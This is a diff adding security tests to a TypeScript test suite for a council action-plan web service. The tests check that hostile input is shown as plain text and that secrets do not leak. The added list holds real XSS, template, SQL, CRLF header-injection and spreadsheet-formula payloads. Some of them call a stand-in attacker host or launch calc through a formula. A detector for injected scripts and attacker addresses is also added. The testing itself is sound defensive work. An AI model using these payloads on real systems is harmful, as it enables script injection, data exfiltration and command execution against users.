@@ -4,12 +4,15 @@
  */
 import { test } from 'node:test'
 import assert from 'node:assert/strict'
+import { parse as parseCsv } from 'csv-parse/sync'
 import { unzipSync } from 'fflate'
+import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5'
+import { SaxesParser } from 'saxes'
 import { rooms } from '#rooms.ts'
 import { roles } from '#duty/roles.ts'
 import { house, type House, type Visitor } from './house.ts'
 import { prepareSamples, type Sample } from './sample-addresses.ts'
-import type { Screen } from './screen.ts'
+import { attr, type Screen } from './screen.ts'
 
 const pages = rooms.flatMap((room) => room.pages)
 const identityProvider = { OIDC_ISSUER: 'http://localhost:9', OIDC_CLIENT_ID: 'due-regard', OIDC_CLIENT_SECRET: 'not a secret' }
@@ -234,4 +237,228 @@ test('an address that somebody made up is answered, whatever stands in it', asyn
     }
   }
   assert.deepEqual(wrong, [])
+})
+
+/** Words that are code somewhere: to a browser, a database, a spreadsheet, a template, a header, a terminal. */
+const nasty: readonly string[] = [
+  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '<svg/onload=alert(1)>', '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">here</a>',
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e', '<!--<script>--><b onmouseover=alert(1)>b</b>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#x3C;script&#x3E;', '<base href="https://attacker.example/">', '<meta http-equiv="refresh" content="0;url=https://attacker.example">', '<form action="https://attacker.example"><button>Sign in</button>', ']]><script>alert(1)</script>',
+  '${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '{% for x in y %}', '$& $1 $` $\'', '%s %n %d %x', '__proto__', 'constructor', 'null', 'undefined', '[object Object]', 'NaN',
+  "'; drop table action_plan.action; --", "' or ''='", '\\', '%', '_', 'E\'\\\\\'', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://attacker.example/?"&A1,"here")', '+1+1', '-2+3', '@SUM(A1:A9)', '  =1+1', '＝1+1',
+  'Words\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>', 'A bell \u0007 and \u001b[31mred\u001b[0m', 'A NUL \u0000 inside', '\ud800 half a pair', '\u202eback to front\u202c', '\u200b\u200d\ufeff nothing to see', '👩🏽‍🦽‍➡️👨‍👩‍👧‍👦', 'Z̷̡͎a̴l̶g̵ǫ', '﷽𒐫', 'ﬁ ſ K İ ß',
+].map((each, number) => `${each} (${number})`)
+
+/** As the house keeps it: trimmed, lines ended in one way, and a mark for what is no character. */
+const kept = (words: string): string => words.toWellFormed().replaceAll('\u0000', '\ufffd').replaceAll('\r\n', '\n').trim()
+const onOneLine = (words: string): string => words.replaceAll(/\s+/g, ' ').trim()
+
+test('words that are code somewhere are kept and shown as the words that they are', async (t) => {
+  await using council = await house()
+  const priya = await council.as('priya.nair@barsetshire.example')
+  const ruth = await council.as('ruth.pemberton@barsetshire.example')
+  const saved = async (url: string, answers: Readonly<Record<string, string>>): Promise<string> => {
+    const answer = await priya.post(url, answers)
+    assert.equal(answer.status, 303, `${url} with ${JSON.stringify(answers)} answers ${answer.status}: ${answer.errors.map((each) => each.text).join(' ')}`)
+    assert.ok(!JSON.stringify(answer.headers).includes('evil'), `${url} carries what was typed into a header`)
+    return answer.goesTo!
+  }
+  const plan = (await saved('/plans/new', { title: 'A plan of nasty words', from: '2026', to: '2028' })).replace(/[?#].*/, '')
+  const strategy = plan.slice('/plans/'.length)
+  assert.match(strategy, /^[0-9a-f-]{36}$/)
+  const wrong: string[] = []
+  const look = async (visitor: Visitor, url: string, words: string | null): Promise<Screen> => {
+    const screen = await visitor.get(url)
+    if (screen.status !== 200) wrong.push(`${url} answers ${screen.status}`)
+    wrong.push(...foreignParts(screen.html).map((each) => `${url} has ${each}`))
+    if (words !== null && !screen.text.includes(onOneLine(kept(words)))) wrong.push(`${url} does not say ${JSON.stringify(kept(words))}`)
+    return screen
+  }
+  const [first] = await council.database.asOwner<{ id: string }>('select id from people.person where organisation_id = $1 and email = $2', [await council.organisation(), 'priya.nair@barsetshire.example'])
+
+  for (const words of nasty) {
+    await saved(`${plan}/objectives/new`, { code: words.slice(0, 30), words, thisMeans: words, measure: words, baseline: words, target: words, deadline: words, leadMember: words.slice(0, 200), strategicLead: words.slice(0, 200), operationalLead: words.slice(0, 200) })
+    const [row] = await council.database.asOwner<{ id: string; words: string }>('select objective_id as id, words from action_plan.objective where strategy_id = $1 order by place desc limit 1', [strategy])
+    assert.equal(row?.words, kept(words))
+    const action = (await saved(`/objectives/${row.id}/actions/new`, { words, reference: words.slice(0, 60), group: words, deadline: words, supporting: words, electedLead: words.slice(0, 200), output: words, outcome: words, process: words, resources: words, privateNotes: words, priority: '', department: '' })).replace(/\/hand-over.*/, '')
+    await saved(`${action}/hand-over`, { to: first!.id, because: words })
+    await saved(`${action}/progress`, { account: words, next: words, own: 'at risk', reason: words })
+    await saved(`${action}/evidence`, { what: words, link: `https://www.example.org/?q=${encodeURIComponent(words.toWellFormed())}` })
+    await saved(`${action}/move-date`, { 'to-day': '1', 'to-month': '3', 'to-year': '2027', because: words })
+    await look(priya, action, words)
+    await look(priya, `/objectives/${row.id}`, words)
+    const edit = await look(priya, `${action}/edit`, null)
+    assert.equal(onOneLine(edit.field('What will be done?')), onOneLine(kept(words)))
+    // Refused, the words stand in the box again.
+    const refused = await priya.post('/plans/new', { title: words, from: words, vision: words })
+    assert.equal(refused.status, 422)
+    assert.equal(onOneLine(refused.field('What is the plan called?')), onOneLine(kept(words)))
+    wrong.push(...foreignParts(refused.html).map((each) => `/plans/new with errors has ${each}`))
+    await saved('/plans/new', { title: words, vision: words, aims: words })
+    await saved('/imports/paste', { words: `Action\tLead\tTimescale\n${words}\t${words}\t${words}`, name: words.slice(0, 120), again: 'yes' })
+    await look(priya, `${plan}?words=${encodeURIComponent(words.toWellFormed())}`, null)
+  }
+  await t.test('on the pages where they were typed', () => assert.deepEqual(wrong.splice(0), []))
+
+  await t.test('on the lists, in the ledger, and where a document is read', async () => {
+    await council.work()
+    for (const url of ['/home', '/plans', plan, '/imports', '/people']) await look(priya, url, null)
+    for (const { href } of (await priya.get('/imports')).links.filter((each) => /^\/imports\/[0-9a-f-]{36}$/.test(each.href)).slice(0, 60)) await look(priya, href, null)
+    const ledger = await look(ruth, '/ledger', null)
+    for (const { href } of ledger.links.filter((each) => /^\/ledger\/\d+$/.test(each.href))) await look(ruth, href, null)
+    assert.deepEqual(wrong.splice(0), [])
+  })
+
+  await t.test('in the public plan, its feed and its data', async () => {
+    await saved(`${plan}/publish`, { decision: 'publish', note: nasty[0]! })
+    const anyone = council.visitor()
+    const page = await look(anyone, `/plan/${strategy}`, null)
+    const actions = page.links.filter((each) => each.href.startsWith('/plan/action/'))
+    assert.ok(actions.length >= nasty.length, `the public plan leads to ${actions.length} actions`)
+    for (const { href } of actions) await look(anyone, href, null)
+    for (const words of nasty) assert.ok(page.text.includes(onOneLine(kept(words))), `the public plan does not say ${JSON.stringify(kept(words))}`)
+    const data = Buffer.from((await anyone.get(`/plan/${strategy}/actions.json`)).bytes).toString()
+    for (const words of nasty) assert.ok(JSON.stringify(JSON.parse(data)).includes(JSON.stringify(kept(words))), `the data does not say ${JSON.stringify(kept(words))}`)
+    assert.deepEqual(troublesOfXml((await anyone.get('/plan/feed.xml')).html), [])
+    assert.deepEqual(wrong.splice(0), [])
+  })
+
+  await t.test('in the tables that a spreadsheet opens, where none is worked out', async () => {
+    for (const [visitor, url] of [[priya, `${plan}.csv`], [council.visitor(), `/plan/${strategy}/actions.csv`], [priya, '/imports.csv'], [ruth, '/ledger.csv']] as const) {
+      const rows = parseCsv(Buffer.from((await visitor.get(url)).bytes), { bom: true, relax_column_count: false }) as string[][]
+      assert.ok(rows.length > nasty.length, `${url} has ${rows.length} rows`)
+      assert.deepEqual(rows.flat().filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)), [], url)
+      if (!url.includes(strategy)) continue
+      // A list puts the reference before the words of an action, in one cell.
+      const cells = rows.flat().map((cell) => cell.replaceAll('\r\n', '\n'))
+      assert.deepEqual(nasty.map(kept).filter((words) => !cells.some((cell) => cell.endsWith(words))), [], url)
+    }
+  })
+
+  await t.test('and too many of them are refused', async () => {
+    for (const [url, name] of [['/plans/new', 'title'], [`${plan}/objectives/new`, 'words'], [`${plan}/edit`, 'title']] as const) {
+      const answer = await priya.post(url, { [name]: '<script>'.repeat(12_500) })
+      assert.equal(answer.status, 422, url)
+      assert.match(answer.errors[0]?.text ?? '', /characters or fewer/)
+      assert.deepEqual(foreignParts(answer.html), [])
+    }
+    assert.equal((await priya.post('/plans/new', { title: 'x'.repeat(20_000_000) })).status, 413)
+    const link = await priya.post((await priya.get(plan)).links.find((each) => each.href.startsWith('/actions/'))!.href + '/evidence', { what: 'Minutes', link: 'javascript:alert(1)//https://' })
+    assert.equal(link.status, 422)
+  })
+})
+
+/** What a page of ours has not: a script of somebody’s own, a frame, an event in an attribute, an address that is code, a form that goes elsewhere. */
+function foreignParts(page: string): readonly string[] {
+  const all = (node: Tree.Node): readonly Tree.Element[] => 'childNodes' in node ? node.childNodes.flatMap((child) => 'tagName' in child ? [child, ...all(child)] : []) : []
+  return all(parse(page)).flatMap((element) => {
+    const found: string[] = []
+    const said = (name: string): string => attr(element, name) ?? ''
+    if (element.tagName === 'script' && !said('src').startsWith('/')) found.push('a script without an address of ours')
+    if (/^(iframe|object|embed|base|math|mtext|noscript)$/.test(element.tagName) || said('http-equiv').toLowerCase() === 'refresh') found.push(`<${element.tagName}>`)
+    for (const { name, value } of element.attrs) {
+      if (name.startsWith('on')) found.push(`the attribute ${name}="${value}"`)
+      if (/^(href|src|action|formaction)$/.test(name) && /^\s*(javascript|data|vbscript):|attacker\.example\/?$/i.test(value)) found.push(`the address ${value}`)
+    }
+    return found
+  })
+}
+
+function troublesOfXml(document: string): readonly string[] {
+  const found: string[] = []
+  const parser = new SaxesParser()
+  parser.on('error', (error) => { found.push(error.message) })
+  parser.write(document).close()
+  return found
+}
+
+test('the check for foreign parts notices them', () => {
+  for (const planted of ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<a href=" javascript:alert(1)">here</a>', '<iframe></iframe>', '<base href="https://attacker.example/">', '<form action="https://attacker.example">']) assert.equal(foreignParts(`<main>${planted}</main>`).length, planted.startsWith('<base') ? 2 : 1, planted)
+  assert.deepEqual(foreignParts('<main><script src="/assets/a.js"></script><a href="/plans">&lt;script&gt;</a></main>'), [])
+})
+
+test('what is private or secret is told to nobody else: no log, no mail, no address, no public page, no page of an error', async (t) => {
+  await using council = await house({ settings: identityProvider })
+  const samples = await prepareSamples(council, pages)
+  const [priya, visitor] = [await council.as('priya.nair@barsetshire.example'), council.visitor()]
+  const action = samples.find((each) => each.page.path.pattern === '/actions/:action')!.url
+  const plan = samples.find((each) => each.page.path.pattern === '/plans/:strategy')!.url
+  const tell = (what: string): string => `quokkafern-${what}-${crypto.randomUUID()}`
+  const written = { notes: tell('notes'), progress: tell('progress'), evidence: tell('evidence'), action: tell('action') }
+  const passwords = { wrong: tell('wrong'), right: tell('right') }
+
+  // Everything private that a form of the house takes.
+  const edit = await priya.get(`${action}/edit`)
+  assert.equal((await priya.press(edit, 'Save', { 'Private notes (optional)': written.notes })).status, 303)
+  assert.equal((await priya.post(`${action}/progress`, { account: written.progress, own: 'on track', isPrivate: 'yes' })).status, 303)
+  assert.equal((await priya.post(`${action}/evidence`, { what: written.evidence, link: `https://www.example.org/${written.evidence}`, isPrivate: 'yes' })).status, 303)
+  const objective = samples.find((each) => each.page.path.pattern === '/objectives/:objective')!.url
+  assert.equal((await priya.post(`${objective}/actions/new`, { words: written.action, priority: '', department: '', isPrivate: 'yes' })).status, 303)
+  assert.equal((await priya.post(`${plan}/publish`, { decision: 'publish' })).status, 303)
+  const seen = `${(await priya.get(action)).html}${(await priya.get(`${action}/edit`)).html}${(await priya.get(objective)).html}`
+  for (const words of Object.values(written)) assert.ok(seen.includes(words), `those who work on the plan do not see ${words}, so nothing is shown by others not seeing it`)
+
+  // A password that is wrong, a link to choose one, and a password that is right.
+  assert.equal((await visitor.post('/sign-in/forgotten', { email: 'priya.nair@barsetshire.example' })).status, 303)
+  await council.work()
+  const reset = (await council.letters()).flatMap((each) => each.links).find((each) => each.includes('choose-password'))
+  assert.ok(reset, 'no letter has a link to choose a password')
+  const redirects: (string | null)[] = []
+  for (const [url, answers] of [['/sign-in', { email: 'priya.nair@barsetshire.example', password: passwords.wrong }], [reset, { password: passwords.right }], ['/sign-in', { email: 'priya.nair@barsetshire.example', password: passwords.right }]] as const) {
+    const answer = await council.visitor().post(url, answers)
+    assert.equal(answer.status, answers.password === passwords.wrong ? 422 : 303, answer.text)
+    assert.ok(!answer.html.includes('quokkafern'), `${url} gives the password back`)
+    redirects.push(answer.goesTo)
+  }
+  const tokens = [...(await council.letters()).flatMap((each) => each.links).flatMap((each) => /(?:\/answer\/|key=)([\w-]+)/.exec(each)?.[1] ?? []), ...priya.cookies.values()].filter((each) => each.length > 20)
+  assert.ok(tokens.length >= 3, 'the letters and the session have hardly any token')
+  const secrets = [...Object.values(passwords), ...tokens]
+  const all = [...Object.values(written), ...secrets]
+
+  // A walk over everything; and the service failing with the words in its hands.
+  const told: string[] = []
+  const employee = await council.as('george.tansley@barsetshire.example')
+  const look = (where: string, screen: Screen, hidden: readonly string[]): void => {
+    const own = tokens.find((each) => screen.address.includes(each))
+    const leak = tells(screen, hidden.filter((each) => each !== own))
+    if (leak !== null) told.push(`${where} tells ${leak}`)
+    if (screen.goesTo !== null && hidden.some((each) => each !== own && screen.goesTo!.includes(each))) told.push(`${where} leads to ${screen.goesTo}`)
+  }
+  const owners = new Map<string | null, Visitor>([[null, council.visitor()]])
+  for (const { by } of samples) if (!owners.has(by)) owners.set(by, await council.as(by!))
+  for (const sample of samples) {
+    look(`to anyone, ${sample.url}`, await council.visitor().get(sample.url), all)
+    look(`to its own people, ${sample.url}`, await carrying(owners.get(sample.by)!, sample, (who) => who.get(sample.url)), secrets)
+    if (isForm(sample)) look(`to an employee, what refuses ${sample.url}`, await employee.get(sample.url), sample.page.path.pattern.startsWith('/actions/') ? secrets : all)
+  }
+  await council.database.asOwner(`alter table action_plan.action add constraint never check (private_notes not like 'quokkafern-later%') not valid`)
+  await council.database.asOwner(`alter table action_plan.happening add constraint never check (told::text not like '%quokkafern-later%') not valid`)
+  const later = tell('later')
+  // Choosing a password ended the sessions from before it.
+  const again = await council.as('priya.nair@barsetshire.example')
+  const failing = [await again.press(await again.get(`${action}/edit`), 'Save', { 'Private notes (optional)': later }), await again.post(`${action}/progress`, { account: later, own: 'on track', isPrivate: 'yes' })]
+  assert.deepEqual(failing.map((each) => each.status), [500, 500])
+  await new Promise((done) => setTimeout(done, 50))
+
+  await t.test('no page and no redirect', () => assert.deepEqual([...told, ...redirects.filter((each) => all.some((secret) => each?.includes(secret)))], []))
+  await t.test('no line of the log', () => {
+    const log = council.log.join('\n')
+    assert.equal(log.split('violates check constraint').length > 2, true, 'the log does not say what failed')
+    assert.deepEqual([...all, later, 'priya.nair@'].filter((each) => log.includes(each)), [], log.slice(0, 3000))
+  })
+  await t.test('no letter to somebody else', async () => {
+    for (const { to, subject, text, links } of await council.letters()) {
+      const own = links.join(' ')
+      assert.deepEqual(all.filter((each) => `${subject} ${text}`.includes(each) && !own.includes(each)), [], `to ${to}`)
+      if (own.includes('choose-password')) assert.equal(to, 'priya.nair@barsetshire.example')
+    }
+  })
+  await t.test('and no password or link is in the ledger', async () => {
+    const ledger = (await council.database.asOwner<{ line: string }>('select row_to_json(b)::text as line from ledger.body b union all select row_to_json(e)::text from ledger.entry e')).map((each) => each.line).join('\n')
+    assert.ok(ledger.includes('signed'), 'the ledger does not say that anybody signed in')
+    assert.deepEqual(secrets.filter((each) => ledger.includes(each)), [])
+    const exported = await (await council.as('ruth.pemberton@barsetshire.example')).get('/ledger/export')
+    assert.equal(exported.status, 200)
+    assert.deepEqual(secrets.filter((each) => Buffer.from(exported.bytes).toString().includes(each)), [])
+  })
 })
